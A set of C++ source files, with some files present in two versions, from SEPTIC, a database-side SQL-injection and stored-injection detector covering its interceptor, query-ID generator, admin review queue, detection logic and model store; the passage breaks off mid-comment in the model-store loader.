  mutable std::mutex mu_;
  std::deque<Event> events_ SEPTIC_GUARDED_BY(mu_);
  size_t capacity_ SEPTIC_GUARDED_BY(mu_) = kDefaultCapacity;
  uint64_t dropped_ SEPTIC_GUARDED_BY(mu_) = 0;
  uint64_t file_errors_ SEPTIC_GUARDED_BY(mu_) = 0;
  std::function<void(const Event&)> sink_ SEPTIC_GUARDED_BY(mu_);
  std::ofstream file_ SEPTIC_GUARDED_BY(mu_);
  uint64_t next_seq_ SEPTIC_GUARDED_BY(mu_) = 1;
};

}  // namespace septic::core

// SEPTIC: SElf-Protecting daTabases preventIng attaCks.
//
// The top-level mechanism (paper Figure 1) wired into the engine as a
// QueryInterceptor. It combines the four modules:
//   - QS&QM manager  (this class: builds QS, derives/looks up QMs)
//   - ID generator   (id_generator.h)
//   - attack detector (detector.h + plugins/)
//   - logger         (event_log.h)
//
// Operation (Table I):
//   TRAINING    — learn QM for each new ID, log creation, execute.
//   PREVENTION  — detect SQLI + stored injection; attacks are logged and
//                 the query DROPPED. Unknown IDs incrementally learn.
//   DETECTION   — same detection, attacks logged but queries EXECUTE.
//
// Concurrency: on_query is the per-query fast path and takes no lock in
// steady state. Configuration is an immutable snapshot published through
// an atomic shared_ptr swap — each query reads one coherent Config for its
// whole pipeline (a mid-query mode flip cannot mis-route it) — and the
// counters are relaxed atomics. The model store shards its own locking
// (qm_store.h); the event log and review queue keep their own short
// mutexes but are off the benign-query path when per-query logging is off.
//
// Usage:
//   auto septic = std::make_shared<core::Septic>();
//   db.set_interceptor(septic);
//   septic->set_mode(core::Mode::kTraining);
//   ... run benign workload ...
//   septic->save_models("models.qm");
//   septic->set_mode(core::Mode::kPrevention);
#pragma once

#include <atomic>
#include <memory>
#include <mutex>
#include <string>

#include "engine/interceptor.h"
#include "septic/config.h"
#include "septic/detector.h"
#include "septic/event_log.h"
#include "septic/id_generator.h"
#include "septic/qm_store.h"
#include "septic/review.h"

namespace septic::core {

struct SepticStats {
  uint64_t queries_seen = 0;
  uint64_t models_created = 0;
  uint64_t sqli_detected = 0;
  uint64_t stored_detected = 0;
  uint64_t dropped = 0;
  /// Internal SEPTIC failures absorbed by the fail policy (the query was
  /// dropped or executed per Config::fail_policy; the engine never saw the
  /// exception).
  uint64_t septic_internal_errors = 0;
  /// Events evicted from the bounded event-log ring (see EventLog).
  uint64_t events_dropped = 0;
};

class Septic final : public engine::QueryInterceptor {
 public:
  Septic();
  explicit Septic(Config config);

  // --- configuration -------------------------------------------------
  // Writers serialize on a small mutex and publish a fresh immutable
  // Config; in-flight queries keep the snapshot they started with.
  void set_mode(Mode mode);
  Mode mode() const;
  void set_sqli_detection(bool on);
  void set_stored_detection(bool on);
  void set_incremental_learning(bool on);
  void set_log_processed_queries(bool on);
  void set_strict_numeric_types(bool on);
  void set_fail_policy(FailPolicy policy);
  Config config() const;

  // --- the hook -------------------------------------------------------
  engine::InterceptDecision on_query(const engine::QueryEvent& event) override;

  // --- model store ----------------------------------------------------
  QmStore& store() { return store_; }
  const QmStore& store() const { return store_; }
  /// Crash-safe persist (temp + fsync + atomic rename; see QmStore).
  void save_models(const std::string& path) const;
  /// Salvage reload; what was recovered/skipped lands in the event log and
  /// is returned for callers that want to act on a dirty load.
  QmLoadReport load_models(const std::string& path);

  // --- admin review (Section II-E) -------------------------------------
  /// Models learned incrementally in normal mode await review here.
  ReviewQueue& review_queue() { return review_; }
  const ReviewQueue& review_queue() const { return review_; }
  /// Approve: the model stays in the store; the queue entry is cleared.
  bool approve_model(uint64_t review_id);
  /// Reject: the model is removed from the store (it came from a query the
  /// admin judged malicious) and the queue entry is cleared.
  bool reject_model(uint64_t review_id);

  // --- observability --------------------------------------------------
  EventLog& event_log() { return log_; }
  SepticStats stats() const;

 private:
  /// Relaxed atomic counters behind the SepticStats snapshot. Exact totals
  /// are still guaranteed: every increment happens-before the join points
  /// where tests/admins read stats() (thread join, server stop).
  struct AtomicStats {
    std::atomic<uint64_t> queries_seen{0};
    std::atomic<uint64_t> models_created{0};
    std::atomic<uint64_t> sqli_detected{0};
    std::atomic<uint64_t> stored_detected{0};
    std::atomic<uint64_t> dropped{0};
    std::atomic<uint64_t> septic_internal_errors{0};
  };

  /// The config snapshot each query pins at entry.
  std::shared_ptr<const Config> config_snapshot() const {
    return config_.load(std::memory_order_acquire);
  }
  /// Copy-modify-publish under config_mu_.
  template <typename Fn>
  void update_config(Fn&& fn);

  /// Handle a query in training mode (or incremental learning): learn,
  /// log, allow. `cfg` is the snapshot on_query pinned — the live mode is
  /// deliberately NOT re-read here, so a concurrent mode flip cannot
  /// mis-route the model into/out of the review queue.
  void train_on(const engine::QueryEvent& event, const QueryId& id,
                const Config& cfg);

  /// The real pipeline; on_query wraps it so that an internal exception is
  /// absorbed by Config::fail_policy instead of propagating into the
  /// engine.
  engine::InterceptDecision dispatch(const engine::QueryEvent& event,
                                     const Config& cfg, const QueryId& id);

  mutable std::mutex config_mu_;  // serializes config writers only
  std::atomic<std::shared_ptr<const Config>> config_;
  QmStore store_;
  ReviewQueue review_;
  EventLog log_;
  std::vector<std::unique_ptr<StoredInjectionPlugin>> plugins_;
  AtomicStats stats_;
};

}  // namespace septic::core

// SEPTIC: SElf-Protecting daTabases preventIng attaCks.
//
// The top-level mechanism (paper Figure 1) wired into the engine as a
// QueryInterceptor. It combines the four modules:
//   - QS&QM manager  (this class: builds QS, derives/looks up QMs)
//   - ID generator   (id_generator.h)
//   - attack detector (detector.h + plugins/)
//   - logger         (event_log.h)
//
// Operation (Table I):
//   TRAINING    — learn QM for each new ID, log creation, execute.
//   PREVENTION  — detect SQLI + stored injection; attacks are logged and
//                 the query DROPPED. Unknown IDs incrementally learn.
//   DETECTION   — same detection, attacks logged but queries EXECUTE.
//
// Concurrency: on_query is the per-query fast path and takes no lock in
// steady state. Configuration is an immutable snapshot published through
// an atomic shared_ptr swap — each query reads one coherent Config for its
// whole pipeline (a mid-query mode flip cannot mis-route it) — and the
// counters are relaxed atomics. The model store shards its own locking
// (qm_store.h); the event log and review queue keep their own short
// mutexes but are off the benign-query path when per-query logging is off.
//
// Usage:
//   auto septic = std::make_shared<core::Septic>();
//   db.set_interceptor(septic);
//   septic->set_mode(core::Mode::kTraining);
//   ... run benign workload ...
//   septic->save_models("models.qm");
//   septic->set_mode(core::Mode::kPrevention);
#pragma once

#include <atomic>
#include <memory>
#include <mutex>
#include <string>

#include "engine/interceptor.h"
#include "septic/config.h"
#include "septic/detector.h"
#include "septic/event_log.h"
#include "septic/id_generator.h"
#include "septic/qm_store.h"
#include "septic/review.h"

namespace septic::core {

struct SepticStats {
  uint64_t queries_seen = 0;
  uint64_t models_created = 0;
  uint64_t sqli_detected = 0;
  uint64_t stored_detected = 0;
  uint64_t dropped = 0;
  /// Blocked statements that ran inside an open multi-statement
  /// transaction (a subset of `dropped`). When Config::abort_txn_on_block
  /// is set, each of these also rolled the enclosing transaction back.
  uint64_t txn_blocked_stmts = 0;
  /// Internal SEPTIC failures absorbed by the fail policy (the query was
  /// dropped or executed per Config::fail_policy; the engine never saw the
  /// exception).
  uint64_t septic_internal_errors = 0;
  /// Events evicted from the bounded event-log ring (see EventLog).
  uint64_t events_dropped = 0;

  /// Engine digest-cache counters (engine/digest_cache.h), surfaced here
  /// once the engine attaches its cache. All zero when detached. Note
  /// cache_hits counts replays of *any* cached pipeline result, including
  /// parse-only entries from before this interceptor was installed being
  /// invalidated — the interceptor-relevant subset is bounded by
  /// queries_seen.
  uint64_t cache_hits = 0;
  uint64_t cache_misses = 0;
  uint64_t cache_insertions = 0;
  uint64_t cache_evictions = 0;
  uint64_t cache_invalidations = 0;
  uint64_t cache_entries = 0;
  uint64_t cache_bytes = 0;
};

class Septic final : public engine::QueryInterceptor {
 public:
  Septic();
  explicit Septic(Config config);

  // --- configuration -------------------------------------------------
  // Writers serialize on a small mutex and publish a fresh immutable
  // Config; in-flight queries keep the snapshot they started with.
  void set_mode(Mode mode);
  Mode mode() const;
  void set_sqli_detection(bool on);
  void set_stored_detection(bool on);
  void set_incremental_learning(bool on);
  void set_log_processed_queries(bool on);
  void set_strict_numeric_types(bool on);
  void set_fail_policy(FailPolicy policy);
  /// When on, a statement blocked inside an open transaction aborts the
  /// whole transaction (the engine rolls it back) instead of leaving it
  /// open for the session to continue around the dropped statement.
  void set_abort_txn_on_block(bool on);
  /// By-value copy of the whole configuration. Callers that only need a
  /// field or two should prefer config_snapshot() — same coherence
  /// guarantee, no copy.
  Config config() const;
  /// The current immutable configuration snapshot (one atomic load; what
  /// every query pins at entry). The snapshot is frozen at the read: a
  /// concurrent set_* publishes a *new* snapshot rather than mutating this
  /// one, so holding it across time reads stale-but-coherent values —
  /// re-read per decision, don't cache it across queries.
  std::shared_ptr<const Config> config_snapshot() const {
    return config_.load(std::memory_order_acquire);
  }

  // --- the hook -------------------------------------------------------
  engine::InterceptDecision on_query(const engine::QueryEvent& event) override;
  engine::InterceptorGenerations generations() const override;
  void on_query_replayed(const engine::QueryEvent& event,
                         const engine::InterceptDecision& decision,
                         const std::shared_ptr<const void>& payload) override;
  /// Prepared EXEC with a current PREPARE-time verdict: accounts for the
  /// query like a replay, then runs ONLY the stored-injection plugins over
  /// the bound parameter values (the data-plane half of detection — the
  /// structural SQLI verdict was settled once, at PREPARE, against the
  /// template). Zero query-model work per call.
  engine::InterceptDecision on_prepared_exec(
      const engine::QueryEvent& event,
      const engine::InterceptDecision& decision,
      const std::shared_ptr<const void>& payload,
      const std::vector<sql::Value>& params) override;
  void attach_digest_cache(
      std::shared_ptr<const engine::QueryDigestCache> cache) override;

  // --- model store ----------------------------------------------------
  QmStore& store() { return store_; }
  const QmStore& store() const { return store_; }
  /// Crash-safe persist (temp + fsync + atomic rename; see QmStore).
  void save_models(const std::string& path) const;
  /// Salvage reload; what was recovered/skipped lands in the event log and
  /// is returned for callers that want to act on a dirty load.
  QmLoadReport load_models(const std::string& path);

  // --- admin review (Section II-E) -------------------------------------
  /// Models learned incrementally in normal mode await review here.
  ReviewQueue& review_queue() { return review_; }
  const ReviewQueue& review_queue() const { return review_; }
  /// Approve: the model stays in the store; the queue entry is cleared.
  bool approve_model(uint64_t review_id);
  /// Reject: the model is removed from the store (it came from a query the
  /// admin judged malicious) and the queue entry is cleared.
  bool reject_model(uint64_t review_id);

  // --- observability --------------------------------------------------
  EventLog& event_log() { return log_; }
  SepticStats stats() const;

 private:
  /// Relaxed atomic counters behind the SepticStats snapshot. Exact totals
  /// are still guaranteed: every increment happens-before the join points
  /// where tests/admins read stats() (thread join, server stop).
  struct AtomicStats {
    std::atomic<uint64_t> queries_seen{0};
    std::atomic<uint64_t> models_created{0};
    std::atomic<uint64_t> sqli_detected{0};
    std::atomic<uint64_t> stored_detected{0};
    std::atomic<uint64_t> dropped{0};
    std::atomic<uint64_t> txn_blocked_stmts{0};
    std::atomic<uint64_t> septic_internal_errors{0};
  };

  /// Copy-modify-publish under config_mu_; bumps Config::epoch.
  template <typename Fn>
  void update_config(Fn&& fn);

  /// Replay state carried in InterceptDecision::cache_payload: the cached
  /// verdict's composed query ID, so replayed queries log under the same
  /// identity the full pipeline would have computed.
  struct VerdictPayload {
    std::string composed_id;
  };

  /// Handle a query in training mode (or incremental learning): learn,
  /// log, allow. `cfg` is the snapshot on_query pinned — the live mode is
  /// deliberately NOT re-read here, so a concurrent mode flip cannot
  /// mis-route the model into/out of the review queue.
  void train_on(const engine::QueryEvent& event, const QueryId& id,
                const Config& cfg);

  /// The real pipeline; on_query wraps it so that an internal exception is
  /// absorbed by Config::fail_policy instead of propagating into the
  /// engine.
  engine::InterceptDecision dispatch(const engine::QueryEvent& event,
                                     const Config& cfg, const QueryId& id);

  mutable std::mutex config_mu_;  // serializes config writers only
  std::atomic<std::shared_ptr<const Config>> config_;
  /// The engine's digest cache, for stats() merging only (the engine owns
  /// lookup/insert). Set once by attach_digest_cache; atomic because a
  /// set_interceptor can race a stats() reader.
  std::atomic<std::shared_ptr<const engine::QueryDigestCache>> digest_cache_;
  QmStore store_;
  ReviewQueue review_;
  EventLog log_;
  std::vector<std::unique_ptr<StoredInjectionPlugin>> plugins_;
  AtomicStats stats_;
};

}  // namespace septic::core

#include "septic/id_generator.h"

#include "common/hash.h"
#include "common/string_util.h"

namespace septic::core {

std::optional<std::string> IdGenerator::external_id(
    const sql::ParsedQuery& query) {
  // First match wins: the SSLE prepends the identifier comment, so the
  // first one is the legitimate one — later comments could have been
  // injected through user input and must not override it.
  for (const auto& c : query.comments) {
    if (c.kind != sql::Comment::Kind::kBlock) continue;
    std::string_view body = common::trim(c.body);
    if (body.rfind(kExternalIdPrefix, 0) == 0) {
      return std::string(
          body.substr(std::string_view(kExternalIdPrefix).size()));
    }
  }
  return std::nullopt;
}

namespace {

void mix(uint64_t& h, std::string_view s) {
  h = common::fnv1a(s, h);
  h = common::hash_combine(h, s.size());
}

}  // namespace

std::string IdGenerator::internal_id(const sql::Statement& stmt) {
  uint64_t h = common::kFnvInit;
  sql::StatementKind kind = sql::statement_kind(stmt);
  mix(h, sql::statement_kind_name(kind));

  switch (kind) {
    case sql::StatementKind::kSelect: {
      const auto& sel = *std::get<sql::SelectPtr>(stmt);
      // Primary FROM tables only — UNION arms are attacker-addable.
      for (const auto& t : sel.from) mix(h, common::to_lower(t.name));
      for (const auto& j : sel.joins) mix(h, common::to_lower(j.table.name));
      for (const auto& it : sel.items) {
        if (it.star) {
          mix(h, "*");
        } else if (it.expr->kind == sql::ExprKind::kColumn) {
          mix(h, common::to_lower(it.expr->column));
        } else {
          mix(h, "<expr>");
        }
      }
      break;
    }
    case sql::StatementKind::kInsert: {
      const auto& ins = std::get<sql::InsertStmt>(stmt);
      mix(h, common::to_lower(ins.table));
      for (const auto& c : ins.columns) mix(h, common::to_lower(c));
      break;
    }
    case sql::StatementKind::kUpdate: {
      const auto& up = std::get<sql::UpdateStmt>(stmt);
      mix(h, common::to_lower(up.table));
      for (const auto& a : up.assignments) mix(h, common::to_lower(a.column));
      break;
    }
    case sql::StatementKind::kDelete: {
      const auto& del = std::get<sql::DeleteStmt>(stmt);
      mix(h, common::to_lower(del.table));
      break;
    }
    case sql::StatementKind::kCreate: {
      const auto& ct = std::get<sql::CreateTableStmt>(stmt);
      mix(h, common::to_lower(ct.table));
      break;
    }
    case sql::StatementKind::kDrop: {
      const auto& d = std::get<sql::DropTableStmt>(stmt);
      mix(h, common::to_lower(d.table));
      break;
    }
    case sql::StatementKind::kShowTables:
      break;  // the kind alone identifies it
    case sql::StatementKind::kDescribe:
      mix(h, common::to_lower(std::get<sql::DescribeStmt>(stmt).table));
      break;
    case sql::StatementKind::kTruncate:
      mix(h, common::to_lower(std::get<sql::TruncateStmt>(stmt).table));
      break;
    case sql::StatementKind::kCreateIndex: {
      const auto& ci = std::get<sql::CreateIndexStmt>(stmt);
      mix(h, common::to_lower(ci.table));
      mix(h, common::to_lower(ci.column));
      break;
    }
    case sql::StatementKind::kDropIndex:
      mix(h, common::to_lower(std::get<sql::DropIndexStmt>(stmt).table));
      break;
    case sql::StatementKind::kTransaction:
      mix(h, std::get<sql::TransactionStmt>(stmt).to_sql());
      break;
    case sql::StatementKind::kExplain: {
      mix(h, "EXPLAIN");
      const auto& sel = *std::get<sql::ExplainStmt>(stmt).select;
      for (const auto& t : sel.from) mix(h, common::to_lower(t.name));
      break;
    }
  }
  return common::to_hex(h);
}

QueryId IdGenerator::generate(const sql::ParsedQuery& query) {
  QueryId id;
  if (auto ext = external_id(query)) id.external = *ext;
  id.internal = internal_id(query.statement);
  return id;
}

}  // namespace septic::core

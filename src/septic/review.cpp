#include "septic/review.h"

#include <algorithm>

namespace septic::core {

uint64_t ReviewQueue::enqueue(std::string query_id, QueryModel model,
                              std::string sample_query) {
  std::lock_guard lock(mu_);
  PendingModel entry;
  entry.review_id = next_id_++;
  entry.query_id = std::move(query_id);
  entry.model = std::move(model);
  entry.sample_query = std::move(sample_query);
  uint64_t id = entry.review_id;
  entries_.push_back(std::move(entry));
  return id;
}

std::vector<PendingModel> ReviewQueue::pending() const {
  std::lock_guard lock(mu_);
  return entries_;
}

size_t ReviewQueue::pending_count() const {
  std::lock_guard lock(mu_);
  return entries_.size();
}

std::optional<PendingModel> ReviewQueue::find(uint64_t review_id) const {
  std::lock_guard lock(mu_);
  for (const auto& e : entries_) {
    if (e.review_id == review_id) return e;
  }
  return std::nullopt;
}

std::optional<PendingModel> ReviewQueue::take(uint64_t review_id) {
  std::lock_guard lock(mu_);
  auto it = std::find_if(entries_.begin(), entries_.end(),
                         [&](const PendingModel& e) {
                           return e.review_id == review_id;
                         });
  if (it == entries_.end()) return std::nullopt;
  PendingModel out = std::move(*it);
  entries_.erase(it);
  return out;
}

void ReviewQueue::clear() {
  std::lock_guard lock(mu_);
  entries_.clear();
}

}  // namespace septic::core

#include "septic/detector.h"

namespace septic::core {

SqliVerdict compare_qs_qm(const sql::ItemStack& qs, const QueryModel& qm,
                          bool strict_numeric_types) {
  // Step 1: structural verification — node counts must be equal.
  if (qs.nodes.size() != qm.nodes.size()) {
    SqliVerdict v;
    v.attack = true;
    v.step = SqliStep::kStructural;
    v.detail = "node count mismatch: QS has " +
               std::to_string(qs.nodes.size()) + " nodes, QM has " +
               std::to_string(qm.nodes.size());
    return v;
  }
  // Step 2: syntactic verification — element-by-element comparison.
  // INT_ITEM and DECIMAL_ITEM are treated as one numeric data category:
  // the same form field legitimately yields "500" one day and "99.5" the
  // next, and neither can smuggle structure. The distinction that matters
  // for detection is numeric-vs-STRING (a quoted payload always surfaces
  // as STRING_ITEM) and data-vs-element.
  auto numeric_data = [](sql::ItemType t) {
    return t == sql::ItemType::kIntItem || t == sql::ItemType::kDecimalItem;
  };
  // PARAM_ITEM — an unbound '?' in a prepared-statement template — is a
  // wildcard data node on EITHER side: in the QS it stands for whatever
  // value the client will bind (data by construction, so any data type in
  // the model matches); in the QM it means the model was trained from a
  // template, which must keep matching queries whose literal landed as
  // STRING/INT/DECIMAL/NULL. It never matches an element node: a '?' can
  // never stand for structure.
  auto param_wildcard = [](sql::ItemType qs_t, sql::ItemType qm_t) {
    return (qs_t == sql::ItemType::kParamItem && sql::is_data_item(qm_t)) ||
           (qm_t == sql::ItemType::kParamItem && sql::is_data_item(qs_t));
  };
  for (size_t i = 0; i < qs.nodes.size(); ++i) {
    const sql::ItemNode& a = qs.nodes[i];
    const sql::ItemNode& b = qm.nodes[i];
    bool match;
    if (a.type == b.type) {
      match = sql::is_data_item(a.type) ? true : a.data == b.data;
    } else if (!strict_numeric_types && numeric_data(a.type) &&
               numeric_data(b.type)) {
      match = true;
    } else if (param_wildcard(a.type, b.type)) {
      match = true;
    } else {
      match = false;
    }
    if (!match) {
      SqliVerdict v;
      v.attack = true;
      v.step = SqliStep::kSyntactic;
      v.detail = "node " + std::to_string(i) + ": QS <" +
                 sql::item_type_name(a.type) + "," + a.data + "> vs QM <" +
                 sql::item_type_name(b.type) + "," + b.data + ">";
      return v;
    }
  }
  return {};
}

SqliVerdict detect_sqli(const sql::ItemStack& qs,
                        const std::vector<QueryModel>& models,
                        bool strict_numeric_types) {
  SqliVerdict closest;
  bool have_syntactic = false;
  for (const auto& qm : models) {
    SqliVerdict v = compare_qs_qm(qs, qm, strict_numeric_types);
    if (!v.attack) return {};  // one match is enough: benign
    if (v.step == SqliStep::kSyntactic && !have_syntactic) {
      closest = v;
      have_syntactic = true;
    } else if (!have_syntactic && closest.step == SqliStep::kNone) {
      closest = v;
    }
  }
  if (models.empty()) return {};  // no model: not this detector's call
  return closest;
}

namespace {

/// The shared value scan: plugin battery over string values, two-step
/// (quick_check filter, then deep_check validation).
StoredVerdict scan_values(
    const std::vector<sql::Value>& values,
    const std::vector<std::unique_ptr<StoredInjectionPlugin>>& plugins) {
  for (const auto& value : values) {
    if (value.type() != sql::ValueType::kString) continue;
    const std::string& s = value.as_string();
    for (const auto& plugin : plugins) {
      // Step 1: lightweight character filter.
      if (!plugin->quick_check(s)) continue;
      // Step 2: precise validation.
      if (auto finding = plugin->deep_check(s)) {
        StoredVerdict v;
        v.attack = true;
        v.plugin = plugin->name();
        v.detail = *finding;
        v.offending_value = s;
        return v;
      }
    }
  }
  return {};
}

}  // namespace

StoredVerdict detect_stored_injection(
    const sql::Statement& stmt,
    const std::vector<std::unique_ptr<StoredInjectionPlugin>>& plugins) {
  sql::StatementKind kind = sql::statement_kind(stmt);
  if (kind != sql::StatementKind::kInsert &&
      kind != sql::StatementKind::kUpdate) {
    return {};
  }
  return scan_values(sql::extract_data_values(stmt), plugins);
}

StoredVerdict detect_stored_params(
    sql::StatementKind kind, const std::vector<sql::Value>& params,
    const std::vector<std::unique_ptr<StoredInjectionPlugin>>& plugins) {
  if (kind != sql::StatementKind::kInsert &&
      kind != sql::StatementKind::kUpdate) {
    return {};
  }
  return scan_values(params, plugins);
}

}  // namespace septic::core

#include "septic/qm_store.h"

#include <algorithm>
#include <fstream>
#include <sstream>
#include <stdexcept>

namespace septic::core {

bool QmStore::add(const std::string& id, const QueryModel& qm) {
  std::lock_guard lock(mu_);
  auto& vec = models_[id];
  if (std::find(vec.begin(), vec.end(), qm) != vec.end()) return false;
  vec.push_back(qm);
  return true;
}

std::vector<QueryModel> QmStore::lookup(const std::string& id) const {
  std::lock_guard lock(mu_);
  auto it = models_.find(id);
  if (it == models_.end()) return {};
  return it->second;
}

bool QmStore::remove(const std::string& id, const QueryModel& qm) {
  std::lock_guard lock(mu_);
  auto it = models_.find(id);
  if (it == models_.end()) return false;
  auto& vec = it->second;
  auto pos = std::find(vec.begin(), vec.end(), qm);
  if (pos == vec.end()) return false;
  vec.erase(pos);
  if (vec.empty()) models_.erase(it);
  return true;
}

bool QmStore::contains(const std::string& id) const {
  std::lock_guard lock(mu_);
  return models_.count(id) > 0;
}

size_t QmStore::id_count() const {
  std::lock_guard lock(mu_);
  return models_.size();
}

size_t QmStore::model_count() const {
  std::lock_guard lock(mu_);
  size_t n = 0;
  for (const auto& [id, vec] : models_) n += vec.size();
  return n;
}

void QmStore::clear() {
  std::lock_guard lock(mu_);
  models_.clear();
}

std::string QmStore::serialize() const {
  std::lock_guard lock(mu_);
  std::string out;
  for (const auto& [id, vec] : models_) {
    for (const auto& qm : vec) {
      out += id;
      out += '\t';
      out += qm.serialize();
      out += '\n';
    }
  }
  return out;
}

void QmStore::deserialize(std::string_view data) {
  std::lock_guard lock(mu_);
  models_.clear();
  std::istringstream in{std::string(data)};
  std::string line;
  size_t line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (line.empty()) continue;
    size_t tab = line.find('\t');
    if (tab == std::string::npos) {
      throw std::runtime_error("QM store: missing tab on line " +
                               std::to_string(line_no));
    }
    QueryModel qm;
    if (!QueryModel::deserialize(std::string_view(line).substr(tab + 1), qm)) {
      throw std::runtime_error("QM store: bad model on line " +
                               std::to_string(line_no));
    }
    models_[line.substr(0, tab)].push_back(std::move(qm));
  }
}

void QmStore::save_to_file(const std::string& path) const {
  std::ofstream out(path, std::ios::trunc);
  if (!out) throw std::runtime_error("cannot write QM store to " + path);
  out << serialize();
  if (!out) throw std::runtime_error("write failed: " + path);
}

void QmStore::load_from_file(const std::string& path) {
  std::ifstream in(path);
  if (!in) throw std::runtime_error("cannot read QM store from " + path);
  std::stringstream buf;
  buf << in.rdbuf();
  deserialize(buf.str());
}

}  // namespace septic::core

#include "septic/qm_store.h"

#include <algorithm>
#include <mutex>
#include <sstream>
#include <stdexcept>

#include "common/atomic_file.h"
#include "common/failpoint.h"
#include "common/hash.h"

namespace septic::core {

namespace {

constexpr std::string_view kV2Header = "SEPTICQM 2";

/// Append one skip explanation to a report (first few only; the counts
/// stay exact either way).
void note_skip(QmLoadReport& report, size_t line_no, const char* why) {
  ++report.skipped;
  if (report.skipped <= 3) {
    if (!report.detail.empty()) report.detail += "; ";
    report.detail += "line " + std::to_string(line_no) + ": " + why;
  } else if (report.skipped == 4) {
    report.detail += "; ...";
  }
}

size_t round_up_pow2(size_t n) {
  size_t p = 1;
  while (p < n) p <<= 1;
  return p;
}

}  // namespace

QmStore::QmStore(size_t shards)
    : shards_(round_up_pow2(std::max<size_t>(shards, 1))),
      shard_mask_(shards_.size() - 1) {}

bool QmStore::add(const std::string& id, const QueryModel& qm) {
  Shard& s = shard_for(id);
  std::unique_lock lock(s.mu);
  auto it = s.models.find(id);
  if (it == s.models.end()) {
    auto vec = std::make_shared<std::vector<QueryModel>>();
    vec->push_back(qm);
    s.models.emplace(id, std::move(vec));
    bump_generation();
    return true;
  }
  const std::vector<QueryModel>& cur = *it->second;
  if (std::find(cur.begin(), cur.end(), qm) != cur.end()) return false;
  // Copy-on-write: readers holding the old set keep a consistent view.
  auto next = std::make_shared<std::vector<QueryModel>>(cur);
  next->push_back(qm);
  it->second = std::move(next);
  bump_generation();
  return true;
}

void QmStore::add_loaded(std::string id, QueryModel qm) {
  Shard& s = shard_for(id);
  std::unique_lock lock(s.mu);
  auto it = s.models.find(id);
  if (it == s.models.end()) {
    auto vec = std::make_shared<std::vector<QueryModel>>();
    vec->push_back(std::move(qm));
    s.models.emplace(std::move(id), std::move(vec));
    bump_generation();
    return;
  }
  auto next = std::make_shared<std::vector<QueryModel>>(*it->second);
  next->push_back(std::move(qm));
  it->second = std::move(next);
  bump_generation();
}

QmStore::ModelSet QmStore::snapshot(const std::string& id) const {
  const Shard& s = shard_for(id);
  std::shared_lock lock(s.mu);
  auto it = s.models.find(id);
  if (it == s.models.end()) return nullptr;
  return it->second;
}

bool QmStore::remove(const std::string& id, const QueryModel& qm) {
  Shard& s = shard_for(id);
  std::unique_lock lock(s.mu);
  auto it = s.models.find(id);
  if (it == s.models.end()) return false;
  const std::vector<QueryModel>& cur = *it->second;
  auto pos = std::find(cur.begin(), cur.end(), qm);
  if (pos == cur.end()) return false;
  if (cur.size() == 1) {
    s.models.erase(it);
    bump_generation();
    return true;
  }
  auto next = std::make_shared<std::vector<QueryModel>>();
  next->reserve(cur.size() - 1);
  for (const auto& m : cur) {
    if (!(m == qm)) next->push_back(m);
  }
  it->second = std::move(next);
  bump_generation();
  return true;
}

bool QmStore::contains(const std::string& id) const {
  const Shard& s = shard_for(id);
  std::shared_lock lock(s.mu);
  return s.models.count(id) > 0;
}

size_t QmStore::id_count() const {
  size_t n = 0;
  for (const Shard& s : shards_) {
    std::shared_lock lock(s.mu);
    n += s.models.size();
  }
  return n;
}

size_t QmStore::model_count() const {
  size_t n = 0;
  for (const Shard& s : shards_) {
    std::shared_lock lock(s.mu);
    for (const auto& [id, vec] : s.models) n += vec->size();
  }
  return n;
}

void QmStore::clear() {
  for (Shard& s : shards_) {
    std::unique_lock lock(s.mu);
    s.models.clear();
  }
  bump_generation();
}

std::vector<std::string> QmStore::ids() const {
  std::vector<std::string> out;
  for (const Shard& s : shards_) {
    std::shared_lock lock(s.mu);
    for (const auto& [id, vec] : s.models) out.push_back(id);
  }
  std::sort(out.begin(), out.end());
  return out;
}

std::string QmStore::serialize() const {
  std::string out;
  for (const Shard& s : shards_) {
    std::shared_lock lock(s.mu);
    for (const auto& [id, vec] : s.models) {
      for (const auto& qm : *vec) {
        out += id;
        out += '\t';
        out += qm.serialize();
        out += '\n';
      }
    }
  }
  return out;
}

std::string QmStore::serialize_v2() const {
  std::string out{kV2Header};
  out += '\n';
  for (const Shard& s : shards_) {
    std::shared_lock lock(s.mu);
    for (const auto& [id, vec] : s.models) {
      for (const auto& qm : *vec) {
        std::string record = id;
        record += '\t';
        record += qm.serialize();
        out += common::to_hex32(common::crc32(record));
        out += '\t';
        out += record;
        out += '\n';
      }
    }
  }
  return out;
}

void QmStore::deserialize(std::string_view data) {
  clear();
  std::istringstream in{std::string(data)};
  std::string line;
  size_t line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (line.empty()) continue;
    size_t tab = line.find('\t');
    if (tab == std::string::npos) {
      throw std::runtime_error("QM store: missing tab on line " +
                               std::to_string(line_no));
    }
    QueryModel qm;
    if (!QueryModel::deserialize(std::string_view(line).substr(tab + 1), qm)) {
      throw std::runtime_error("QM store: bad model on line " +
                               std::to_string(line_no));
    }
    add_loaded(line.substr(0, tab), std::move(qm));
  }
}

QmLoadReport QmStore::deserialize_salvage(std::string_view data) {
  QmLoadReport report;
  report.version = 1;

  size_t pos = 0;
  size_t line_no = 0;

  // Header probe: a "SEPTICQM <v>" first line selects the CRC'd format.
  if (data.substr(0, kV2Header.size()) == kV2Header &&
      (data.size() == kV2Header.size() || data[kV2Header.size()] == '\n')) {
    report.version = 2;
    pos = std::min(data.size(), kV2Header.size() + 1);
    line_no = 1;
  } else if (data.substr(0, 9) == "SEPTICQM ") {
    throw std::runtime_error(
        "QM store: unsupported format version (header: " +
        std::string(data.substr(0, data.find('\n'))) + ")");
  }

  clear();

  while (pos < data.size()) {
    size_t nl = data.find('\n', pos);
    bool has_newline = nl != std::string_view::npos;
    std::string_view line =
        data.substr(pos, has_newline ? nl - pos : std::string_view::npos);
    pos = has_newline ? nl + 1 : data.size();
    ++line_no;
    if (line.empty()) continue;

    std::string_view record = line;
    if (report.version == 2) {
      // "crc32hex<TAB>id<TAB>model"; the CRC covers everything after its tab.
      size_t tab = line.find('\t');
      if (tab == std::string_view::npos) {
        note_skip(report, line_no, "missing CRC field");
        continue;
      }
      uint64_t stored = 0;
      if (tab != 8 || !common::from_hex(line.substr(0, tab), stored)) {
        note_skip(report, line_no, "bad CRC field");
        continue;
      }
      record = line.substr(tab + 1);
      if (common::crc32(record) != static_cast<uint32_t>(stored)) {
        note_skip(report, line_no,
                  has_newline ? "CRC mismatch" : "CRC mismatch (torn tail)");
        continue;
      }
    } else if (!has_newline) {
      // v1 has no integrity check; an unterminated final line is the one
